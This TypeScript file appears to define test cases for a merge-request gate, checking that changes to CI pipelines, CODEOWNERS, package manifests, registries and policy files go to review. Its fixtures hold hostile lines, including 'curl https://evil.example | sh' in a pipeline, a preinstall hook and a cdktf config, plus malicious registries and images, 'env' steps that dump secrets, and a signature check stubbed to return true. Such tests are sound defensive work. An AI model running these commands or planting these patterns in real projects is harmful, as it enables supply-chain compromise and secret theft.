import type { ForgeryCase } from '../case.ts';
import type { FileContent } from '../git-store.ts';
import { atMergeRequest, atProtectedBranch, objects } from '../subjects/gate.ts';
import { checkedOut } from '../template.ts';

const CONTROL = objects('data_only_diff: review');

/** Files that decide how a change is planned, judged and applied. None may come with an automatic move. */
const ADDED: Readonly<Record<string, FileContent>> = {
  '.gitlab-ci.yml': 'stages: [apply]\napply:\n  script: [echo auto > verdict.json]\n',
  'pipelines/policy.yml': 'policy:\n  script: [exit 0]\n',
  'pipelines/apply.yml': 'apply:\n  script: [node infra/cli.ts apply --force]\n',
  'pipelines/plan.yml': 'plan:\n  script: [curl https://evil.example | sh]\n',
  'pipelines/base.yml': '.job:\n  image: evil.example/node\n',
  'pipelines/workflow.yml': 'workflow:\n  rules:\n    - when: always\n',
  'pipelines/validate.yml': 'validate:\n  script: [true]\n',
  'pipelines/notify.yml': 'notify:\n  script: [env]\n',
  'pipelines/extra.yml': 'extra:\n  script: [env]\n',
  '.gitlab/CODEOWNERS': '* @mallory\n',
  CODEOWNERS: '* @mallory\n',
  'docs/CODEOWNERS': '* @mallory\n',
  '.gitlab/merge_request_templates/Default.md': '/approve\n',
  'package.json': '{"name":"trimtab","scripts":{"preinstall":"curl https://evil.example | sh"}}\n',
  'package-lock.json': '{"lockfileVersion":3,"packages":{}}\n',
  '.npmrc': 'registry=https://evil.example/\n',
  '.nvmrc': '12\n',
  '.yarnrc.yml': 'yarnPath: ./evil.cjs\n',
  'node_modules/canonicalize/index.js': 'export default () => "same";\n',
  'tsconfig.json': '{}\n',
  '.gitattributes': 'infra/decisions/** merge=ours\n*.ts filter=evil\n',
  '.gitmodules': '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n',
  '.mailmap': 'Trimtab <trimtab@localhost> Mallory <mallory@example.com>\n',
  '.lfsconfig': '[lfs]\n\turl = https://evil.example\n',
  'src/main.ts': 'process.exit(0);\n',
  'src/cli/gate.ts': 'export const gateCommand = () => 0;\n',
  'src/gate/verdict.ts': 'export const judge = () => ({ outcome: "auto" });\n',
  'src/lib/ed25519.ts': 'export const verify = () => true;\n',
  'infra/cli.ts': 'process.exit(0);\n',
  'infra/deploy/verdict.ts': 'export const permit = () => undefined;\n',
  'infra/cdktf.json': '{"language":"typescript","app":"curl https://evil.example | sh"}\n',
  'policies/gate.wasm': Buffer.from('0061736d01000000', 'hex'),
  'policies/gate.json': '{"version":99}\n',
  'policies/trust.json': '{"version":1,"keys":[]}\n',
  'policies/gate/main.rego': 'package gate\n\nverdict := {"outcome": "auto"}\n',
  'policies/gate/data.json': '{"thresholds":{}}\n',
  'scripts/build-policy.ts': 'process.exit(0);\n',
  Dockerfile: 'FROM evil.example/node\n',
  'README.md': '# Nothing to see here\n',
};

const added = Object.entries(ADDED).map(([path, content]) =>
  atMergeRequest('T1', `${path} rides along`, CONTROL, (world) => {
    world.branch[path] = content;
  }),
);

/** Less than a new text: gone, renamed, made a link or an executable, pushed later. */
const subtle: ForgeryCase[] = [
  atMergeRequest('T1', 'the pipeline is deleted', CONTROL, (world) => {
    world.branch['.gitlab-ci.yml'] = null;
  }),
  atMergeRequest('T1', 'the pipeline becomes a link', CONTROL, (world) => {
    world.branch['.gitlab-ci.yml'] = { link: 'infra/decisions/service-1.json' };
  }),
  atMergeRequest('T1', 'the pipeline becomes executable', CONTROL, (world) => {
    world.branch['.gitlab-ci.yml'] = { executable: checkedOut('.gitlab-ci.yml') };
  }),
  atMergeRequest('T1', 'a pipeline moves to another name', CONTROL, (world) => {
    world.branch['pipelines/policy.yml'] = null;
    world.branch['pipelines/gate.yml'] = checkedOut('pipelines/policy.yml');
  }),
  atMergeRequest('T1', 'one line break is added to the pipeline', CONTROL, (world) => {
    world.branch['.gitlab-ci.yml'] = `${checkedOut('.gitlab-ci.yml')}\n`;
  }),
  atMergeRequest('T1', 'the pipeline changes in a commit of the bot on top', CONTROL, (world) => {
    world.more.push({ files: { '.gitlab-ci.yml': 'apply: {script: [env]}\n' } });
  }),
  atMergeRequest('T1', 'the policies are deleted', CONTROL, (world) => {
    world.branch['policies'] = null;
  }),
  atMergeRequest('T1', 'forty files at once, the pipeline among them', CONTROL, (world) => {
    for (let i = 0; i < 40; i++) world.branch[`docs/${i}.md`] = `${i}\n`;
    world.branch['.gitlab-ci.yml'] = 'apply: {script: [env]}\n';
  }),
  atMergeRequest('T1', 'more files than the policy is shown, the pipeline last', CONTROL, (world) => {
    for (let i = 0; i < 120; i++) world.branch[`.a/${i}.md`] = `${i}\n`;
    world.branch['pipelines/zz.yml'] = 'apply: {script: [env]}\n';
  }),
];

const merged = ['.gitlab-ci.yml', 'pipelines/apply.yml', 'policies/gate/data.json', 'policies/trust.json', 'package.json'].map(
  (path) =>
    atProtectedBranch('T1', `${path} was merged along`, CONTROL, (world) => {
      world.branch[path] = ADDED[path] ?? null;
    }),
);

export const CONTROL_FILES: readonly ForgeryCase[] = [...added, ...subtle, ...merged];
